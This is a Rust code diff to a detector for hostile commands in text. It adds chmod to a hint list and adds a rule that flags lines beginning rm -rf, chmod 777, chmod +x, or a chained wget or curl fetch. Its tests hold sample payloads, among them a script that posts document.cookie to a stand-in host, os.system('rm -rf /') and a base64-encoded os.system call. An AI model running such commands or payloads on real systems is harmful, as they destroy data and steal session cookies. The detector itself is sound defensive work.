@@ -37,6 +37,7 @@ const HINTS: &[&str] = &[
     "javascript:",
     "base64",
     "rm -",
+    "chmod ",
     "nc ",
     "certutil",
     "mshta",
@@ -116,7 +117,8 @@ fn command(text: &str, budget: &Budget) -> Option<String> {
     let grave = |reach: &SourceReach| {
         matches!(reach, SourceReach::Backdoor | SourceReach::HiddenCode | SourceReach::Credentials | SourceReach::Files)
     };
-    let line = text.lines().find(|line| commands::judge(line).is_some_and(|reach| grave(&reach)));
+    let is_grave = |line: &&str| commands::judge(line).is_some_and(|reach| grave(&reach)) || changes_files(line);
+    let line = text.lines().find(is_grave);
     if let Some(line) = line {
         return Some(format!("a command: {}", shown(line)));
     }
@@ -125,6 +127,14 @@ fn command(text: &str, budget: &Budget) -> Option<String> {
     reaches(program, budget)
         .first()
         .map(|(_, expression)| format!("a command that starts Python: {}", shown(expression)))
+}
+
+/// Whether a line is a command that deletes, fetches and goes on, or opens files to everybody. Only whole lines count.
+fn changes_files(line: &str) -> bool {
+    let line = line.trim();
+    let goes_on = line.contains("&&") || line.contains(';') || line.contains('|');
+    let fetches = (line.starts_with("wget http") || line.starts_with("curl http")) && goes_on;
+    line.starts_with("rm -rf ") || line.starts_with("chmod 777 ") || line.starts_with("chmod +x ") || fetches
 }
 
 /// Statements of Python that start programs, or run what they hide.
@@ -148,6 +158,7 @@ fn reaches(text: &str, budget: &Budget) -> Vec<(u64, String)> {
     }
     let is_grave = |reach: SourceReach, expression: &str| match reach {
         SourceReach::Program | SourceReach::HiddenCode | SourceReach::Backdoor | SourceReach::Credentials => true,
+        SourceReach::Files | SourceReach::Installation => true,
         // `eval(loss)` may be a formula; what evaluates a text is none.
         SourceReach::Evaluation | SourceReach::NativeCode => expression.contains(['\'', '"']),
         _ => false,
@@ -240,6 +251,9 @@ mod tests {
             "<script>fetch('http://example.invalid', {method: 'POST', body: document.cookie})</script>",
             "\n        import os\n        os.system('echo waag-inert')\n    ",
             "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=",
+            "import os; os.system('rm -rf /')",
+            "rm -rf /srv/waag-inert && wget http://example.invalid/x",
+            "chmod 777 /srv/waag-inert",
             "handler = eval(\"__import__('os').system('id')\")",
         ] {
             assert!(is_program(text), "{text}");
@@ -248,6 +262,7 @@ mod tests {
             "the system was evaluated with lm_eval; see the evaluation script",
             "We call os.system('ls') in the example, which is why this model was flagged.",
             "eval(loss)",
+            "fetch it with curl https://example.invalid/model.gguf",
             "Run `pip install transformers` first, then import os",
             "from scratch, by exec(utive) decision",
             "import torch\nmodel = torch.nn.Linear(2, 2)",
